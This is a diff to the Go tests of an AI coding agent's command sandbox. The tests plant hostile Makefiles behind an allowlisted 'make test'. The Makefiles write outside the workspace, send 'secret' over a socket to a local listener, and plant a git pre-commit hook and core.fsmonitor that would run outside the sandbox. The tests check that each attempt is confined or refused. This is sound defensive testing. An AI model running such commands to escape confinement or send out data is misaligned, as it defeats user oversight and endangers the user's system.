@@ -158,23 +158,22 @@ func makeTest() geminitest.Turn {
 	return callTurn("run_command", map[string]any{"command": "make test"}, "")
 }
 
-// assertAskedOrConfined checks the outcome on each path: sandboxed, the command ran (nobody was
-// asked); unavailable, the user was asked about it and, having refused, it did not run.
-func assertAskedOrConfined(t *testing.T, path string, ap *recordingApprover, outs []string) {
+// assertAskedOrConfined checks the outcome on each path: confined, the command ran (nobody was
+// asked); not confined, the user was asked about it and, having refused, it did not run.
+func assertAskedOrConfined(t *testing.T, sb *sandbox.Sandbox, ap *recordingApprover, outs []string) {
 	t.Helper()
 	asked := ap.questions()
-	switch path {
-	case "sandboxed":
+	if ok, _ := sb.Confined(); ok {
 		if len(asked) != 0 {
 			t.Errorf("sandboxed: an allowlisted command was asked about: %+v", asked)
 		}
-	case "unavailable":
-		if len(asked) != 1 || !strings.Contains(asked[0].Reason, "cannot be sandboxed") {
-			t.Errorf("unavailable: questions %+v, want one saying the sandbox is missing", asked)
-		}
-		if len(outs) != 1 || !strings.HasPrefix(outs[0], "refused by policy: make test") {
-			t.Errorf("unavailable: tool outputs %q, want the refusal", outs)
-		}
+		return
+	}
+	if len(asked) != 1 || !strings.Contains(asked[0].Reason, "cannot be sandboxed") {
+		t.Errorf("unavailable: questions %+v, want one saying the sandbox is missing", asked)
+	}
+	if len(outs) != 1 || !strings.HasPrefix(outs[0], "refused by policy: make test") {
+		t.Errorf("unavailable: tool outputs %q, want the refusal", outs)
 	}
 }
 
@@ -197,13 +196,14 @@ func TestAttackAllowedCommandWritesOutside(t *testing.T) {
 			}
 			ws := t.TempDir()
 			ap := &recordingApprover{decision: tools.Reject}
+			sb := p.make(ws)
 			a := newAttack(t, attackOpts{
-				ws: ws, sandbox: p.make(ws), approver: ap,
+				ws: ws, sandbox: sb, approver: ap,
 				files: makefileAttack(fmt.Sprintf("echo pwned > %s; echo pwned > %s/new", victim, outside)),
 			}, makeTest(), textTurn("done"))
 			outs := toolOutputs(a.run(t, "run the tests"))
-			assertAskedOrConfined(t, p.name, ap, outs)
-			if p.name == "sandboxed" && (len(outs) != 1 || !strings.Contains(outs[0], "ermission denied")) {
+			assertAskedOrConfined(t, sb, ap, outs)
+			if ok, _ := sb.Confined(); ok && (len(outs) != 1 || !strings.Contains(outs[0], "ermission denied")) {
 				t.Errorf("sandboxed: the write outside was not denied: %q", outs)
 			}
 			if got, _ := os.ReadFile(victim); string(got) != "safe" {
@@ -242,13 +242,45 @@ func TestAttackAllowedCommandReachesNetwork(t *testing.T) {
 			exfiltrate := fmt.Sprintf(`%s -c 'import socket; socket.create_connection(("127.0.0.1", %d)).sendall(b"secret")'`, py, port)
 			ws := t.TempDir()
 			ap := &recordingApprover{decision: tools.Reject}
-			a := newAttack(t, attackOpts{ws: ws, sandbox: p.make(ws), approver: ap, files: makefileAttack(exfiltrate)},
+			sb := p.make(ws)
+			a := newAttack(t, attackOpts{ws: ws, sandbox: sb, approver: ap, files: makefileAttack(exfiltrate)},
 				makeTest(), textTurn("done"))
 			outs := toolOutputs(a.run(t, "run the tests"))
 			ln.Close()
-			assertAskedOrConfined(t, p.name, ap, outs)
+			assertAskedOrConfined(t, sb, ap, outs)
 			if n := accepted.Load(); n != 0 {
 				t.Errorf("the command connected out %d times: %q", n, outs)
+			}
+		})
+	}
+}
+
+// TestAttackAllowedCommandPlantsGitHook: a Makefile run by the allowlisted `make test` tries to
+// plant a pre-commit hook and a core.fsmonitor, which would run outside any sandbox at the user's
+// next git command.
+func TestAttackAllowedCommandPlantsGitHook(t *testing.T) {
+	for _, p := range sandboxPaths {
+		t.Run(p.name, func(t *testing.T) {
+			ws := t.TempDir()
+			if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
+				t.Fatalf("git init: %v %s", err, out)
+			}
+			config, err := os.ReadFile(filepath.Join(ws, ".git", "config"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			ap := &recordingApprover{decision: tools.Reject}
+			sb := p.make(ws)
+			a := newAttack(t, attackOpts{ws: ws, sandbox: sb, approver: ap,
+				files: makefileAttack("printf '#!/bin/sh\\ntouch pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git config core.fsmonitor 'touch pwned'")},
+				makeTest(), textTurn("done"))
+			outs := toolOutputs(a.run(t, "run the tests"))
+			assertAskedOrConfined(t, sb, ap, outs)
+			if _, err := os.Stat(filepath.Join(ws, ".git", "hooks", "pre-commit")); !errors.Is(err, fs.ErrNotExist) {
+				t.Errorf("a hook was planted (%v): %q", err, outs)
+			}
+			if got, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); string(got) != string(config) {
+				t.Errorf(".git/config was changed:\n%s", got)
 			}
 		})
 	}
